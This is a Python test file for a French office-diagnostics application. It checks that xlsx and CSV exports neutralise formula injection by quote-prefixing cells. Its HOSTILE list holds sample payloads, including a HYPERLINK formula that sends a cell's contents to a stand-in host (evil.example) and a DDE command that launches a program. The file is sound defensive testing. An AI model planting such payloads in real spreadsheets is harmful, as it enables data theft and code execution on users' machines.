"""Issue 12 finding 8: text from bundles never becomes a formula in the office's xlsx or CSV tables."""

from __future__ import annotations

import copy
import csv
import re
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from ifdesk.core.diagnostic import ActionItem
from ifdesk.core.safe_text import spreadsheet_text, starts_formula
from ifdesk.office.export import export_csv, export_xlsx
from tests import test_office_aggregates as agg

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)",
           "\t=1+1", "\r=1+1"]


@pytest.fixture
def hostile_office(workspace, monkeypatch):
    mini = copy.deepcopy(agg.MINI)
    mini["themes"][0]["title"] = "=1+2"  # a référentiel title becomes a column header
    monkeypatch.setattr(agg, "MINI", mini)
    ids = agg.build(workspace)
    workspace.diagnostics.set_actions(ids["d5"], [
        ActionItem(title=t, criteria=["c1"], priority=1, cost_eur=100, due=date(2026, 3, 1), owner=HOSTILE[3],
                   description=HOSTILE[2]) for t in HOSTILE])
    with workspace.transaction():
        workspace.db.execute("UPDATE companies SET name = ?, turnover_eur = -1500.5 WHERE siret = ?",
                             (HOSTILE[0], agg.SIRET["A"]))
        workspace.db.execute("UPDATE companies SET city = ?, headcount = -3 WHERE siret = ?", (HOSTILE[1], agg.SIRET["B"]))
        workspace.db.execute("UPDATE answers SET note = ?", (HOSTILE[3],))
        workspace.db.execute("INSERT INTO import_journal (at, file, outcome, reason, signer_name, diagnostics) "
                             "VALUES ('2026-01-05T10:00:00Z', ?, 'rejected', ?, ?, '[]')",
                             (HOSTILE[0], HOSTILE[4], HOSTILE[5]))
    return workspace, ids


def test_the_rule():
    for t in HOSTILE + ["=", "-"]:
        assert starts_formula(t) and spreadsheet_text(t) == "'" + t
    for t in ["Entreprise", "", "1=1", " =x", "'=déjà"]:
        assert not starts_formula(t) and spreadsheet_text(t) == t


def test_xlsx_has_no_formula(hostile_office, tmp_path):
    ws, _ids = hostile_office
    out = tmp_path / "t.xlsx"
    export_xlsx(ws, out)
    with zipfile.ZipFile(out) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(out)
    texts = set()
    for sh in wb.worksheets:
        for row in sh.iter_rows():
            for c in row:
                assert c.data_type != "f", (sh.title, c.coordinate, c.value)
                if isinstance(c.value, str):
                    texts.add(c.value)
                    if starts_formula(c.value):
                        assert c.data_type == "s" and c.quotePrefix, (sh.title, c.coordinate)
    assert {t.replace("\r", "\n") for t in HOSTILE} | {"=1+2"} <= texts  # as typed, as text (XML reads CR as LF)
    head = [c.value for c in wb["Scores par thème"][1]]
    assert "=1+2" in head
    ent = wb["Entreprises"]
    head = [c.value for c in ent[1]]
    turnover = [r[head.index("Chiffre d'affaires")] for r in ent.iter_rows(min_row=2, values_only=True)]
    assert -1500.5 in turnover  # a negative number stays a number


def test_csv_cells_never_start_a_formula(hostile_office, tmp_path):
    ws, _ids = hostile_office
    folder = tmp_path / "csv"
    export_csv(ws, folder)
    seen = []
    for f in folder.iterdir():
        with open(f, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh, delimiter=";"):
                for cell in row:
                    assert not starts_formula(cell) or re.fullmatch(r"-\d+(,\d+)?", cell), (f.name, cell)
                    seen.append(cell)
    assert {"'" + t for t in HOSTILE} | {"'=1+2"} <= set(seen)
    with open(folder / "entreprises.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh, delimiter=";"))
    assert "-1500,5" in rows[[r[0] for r in rows].index(agg.SIRET["A"])]  # numbers are not prefixed
    assert "-3" in rows[[r[0] for r in rows].index(agg.SIRET["B"])]
